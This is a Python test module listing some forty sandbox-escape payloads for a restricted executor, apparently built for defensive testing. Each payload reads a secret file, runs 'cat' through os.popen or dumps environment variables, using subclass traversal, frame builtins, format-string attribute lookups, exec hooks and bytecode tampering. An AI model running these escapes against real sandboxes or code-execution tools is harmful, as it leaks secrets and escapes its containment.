"""Attacks of families A and B: the object graph, by dunders and by strings that hold them."""

from attack_cases import ENVIRON, HOST, READ, RUN, Attack

_A = [
    (
        "subclasses to popen",
        """
for c in ().__class__.__base__.__subclasses__():
    if c.__name__ == "_wrap_close":
        result = c.__init__.__globals__["popen"]("cat SECRET_FILE").read()
""",
        RUN,
    ),
    (
        "importer of built-in modules",
        """
for c in type(df).__mro__[-1].__subclasses__():
    pass
importer = [c for c in object.__subclasses__() if c.__name__ == "BuiltinImporter"]
importer = importer or [type(m.__spec__.loader) for m in [np] if 0]
import sys
posix = sys.modules["posix"]
result = posix.read(posix.open("SECRET_FILE", 0), 100).decode()
""",
        READ,
    ),
    (
        "globals of a library function",
        'result = pd.read_csv.__globals__["__builtins__"]["open"]("SECRET_FILE").read()',
        READ,
    ),
    (
        "frames behind a traceback",
        """
try:
    1 / 0
except Exception as e:
    f = e.__traceback__.tb_frame
    while f.f_back:
        f = f.f_back
    result = f.f_builtins["open"]("SECRET_FILE").read()
""",
        READ,
    ),
    (
        "builtins of a generator's frame",
        'g = (i for i in [1])\nresult = g.gi_frame.f_builtins["open"]("SECRET_FILE").read()',
        READ,
    ),
    (
        "builtins of a coroutine's frame",
        """
async def f():
    pass
c = f()
b = c.cr_frame.f_builtins
c.close()
result = b["open"]("SECRET_FILE").read()
""",
        READ,
    ),
    (
        "getattr with a name put together",
        """
u = "_" * 2
o = getattr(getattr((), u + "class" + u), u + "base" + u)
for c in getattr(o, u + "subclasses" + u)():
    if c.__name__ == "_wrap_close":
        g = getattr(getattr(c, u + "init" + u), u + "globals" + u)
        result = g["popen"]("cat SECRET_FILE").read()
""",
        RUN,
    ),
    ("vars of a module", 'result = vars(pd)["io"].common.os.popen("cat SECRET_FILE").read()', RUN),
    (
        "type with three arguments",
        """
T = type("T", (object,), {"__getitem__": lambda s, k: open(k).read()})
result = T()["SECRET_FILE"]
""",
        READ,
    ),
    (
        "a class pattern of match",
        """
match pd.read_csv:
    case object(__globals__=g):
        result = g["__builtins__"]["open"]("SECRET_FILE").read()
""",
        READ,
    ),
    (
        "the object inside an AttributeError",
        """
try:
    pd.io.nothing
except AttributeError as e:
    result = e.obj.common.os.popen("cat SECRET_FILE").read()
""",
        RUN,
    ),
    (
        "the builtins' own name",
        """
b = __builtins__
b = b if isinstance(b, dict) else vars(b)
result = b["open"]("SECRET_FILE").read()
""",
        READ,
    ),
    (
        "class of an indexer",
        """
g = df.iloc.__class__.__init__.__globals__ if hasattr(df.iloc.__class__.__init__, "__globals__") \
    else df.groupby.__func__.__globals__
result = g["__builtins__"]["open"]("SECRET_FILE").read()
""",
        READ,
    ),
    ("import", 'import os\nresult = os.popen("cat SECRET_FILE").read()', RUN),
    ("import by function", 'result = __import__("os").popen("cat SECRET_FILE").read()', RUN),
    ("open", 'result = open("SECRET_FILE").read()', READ),
    (
        "files that the collector knows",
        """
import gc, io
found = [o for o in gc.get_objects() if isinstance(o, io.IOBase)]
for f in found:
    try:
        f.write("SECRET")
    except Exception:
        pass
import sys
g = sys._getframe().f_builtins
result = g["open"]("SECRET_FILE").read()
""",
        READ,
    ),
    (
        "a function made of a code object",
        """
F = type(lambda: 0)
c = compile('open("SECRET_FILE").read()', "x", "eval")
result = F(c, {})()
""",
        READ,
    ),
]
_B = [
    ("format of an attribute", 'result = "{0.io.common.os.environ}".format(pd)', ENVIRON),
    ("format_map", 'result = "{x.io.common.os.environ}".format_map({"x": pd})', ENVIRON),
    (
        "format as a mapped function",
        """
s = pd.Series([0, 1]).map(lambda i: pd)
result = s.map("{0.io.common.os.environ}".format).iloc[0]
""",
        ENVIRON,
    ),
    (
        "format taken off the type",
        'result = [*map(str.format, ["{0.io.common.os.environ}"], [pd])][0]',
        ENVIRON,
    ),
    (
        "a format for numbers of a printed table",
        """
f = "{0.__class__.__init__.__globals__}".format
f = f if 0 else (lambda v: "{0.io.common.os.environ}".format(pd))
result = df.to_string(float_format=f)
""",
        ENVIRON,
    ),
    (
        "decorators without a call",
        "@exec\n@'result = open(\"SECRET_FILE\").read()'.format\nclass A:\n    pass\n",
        READ,
    ),
    ("defaults of a lambda", 'result = (lambda o=open: o("SECRET_FILE").read())()', READ),
    (
        "a subscript that executes",
        """
class A:
    __class_getitem__ = exec
A['global result; result = open("SECRET_FILE").read()']
""",
        READ,
    ),
    (
        "an attribute that executes",
        """
class A:
    __getattr__ = exec
getattr(A(), 'global result; result = open("SECRET_FILE").read()')
""",
        READ,
    ),
    (
        "a plus that executes",
        """
class A:
    __add__ = exec
A() + 'global result; result = open("SECRET_FILE").read()'
""",
        READ,
    ),
    (
        "percent with a hostile mapping",
        """
class A:
    def __getitem__(self, path):
        return open(path).read()
result = "%(SECRET_FILE)s" % A()
""",
        READ,
    ),
    (
        "a sort key that executes",
        """
codes = ['global result; result = open("SECRET_FILE").read()']
sorted(codes, key=exec)
""",
        READ,
    ),
    (
        "formatter of the standard library",
        'import string\nresult = string.Formatter().vformat("{0.io.common.os.environ}", [pd], {})',
        ENVIRON,
    ),
    (
        "a log record's brace style",
        """
import logging
r = logging.LogRecord("x", 1, "p", 1, "m", (), None)
r.pd = pd
result = logging.Formatter("{pd.io.common.os.environ}", style="{").format(r)
""",
        ENVIRON,
    ),
    (
        "a nested format field",
        """
class A:
    def __format__(self, spec):
        return open(spec).read()
path = "SECRET_FILE"
result = f"{A():{path}}"
""",
        READ,
    ),
    (
        "a hook of subclassing",
        """
class A:
    def __init_subclass__(cls):
        global result
        result = open("SECRET_FILE").read()
class B(A):
    pass
""",
        READ,
    ),
    (
        "a context manager and a finally",
        """
class A:
    def __enter__(self):
        return open
    def __exit__(self, *e):
        return True
with A() as o:
    try:
        1 / 0
    finally:
        result = o("SECRET_FILE").read()
""",
        READ,
    ),
]
ATTACKS = [
    *(Attack("A", name, code, escape) for name, code, escape in _A),
    *(Attack("B", name, code, escape) for name, code, escape in _B),
    Attack(
        "A",
        "bytecode that reads beyond its constants",
        """
def f():
    return 1
beyond = bytes([151, 0, 144, 255, 144, 255, 100, 255, 83, 0])
f.__code__ = f.__code__.replace(co_consts=(), co_code=beyond)
result = f()
""",
        HOST,
        live=False,
    ),
    Attack(
        "A",
        "clobbering the runner's frames",
        """
import sys, gc
f = sys._getframe()
while f:
    for name, value in list(f.f_globals.items()):
        if not name.startswith("__") and callable(value) and f.f_globals is not globals():
            f.f_globals[name] = lambda *a, **k: None
    f = f.f_back
result = 1
""",
        HOST,
        live=False,
    ),
]
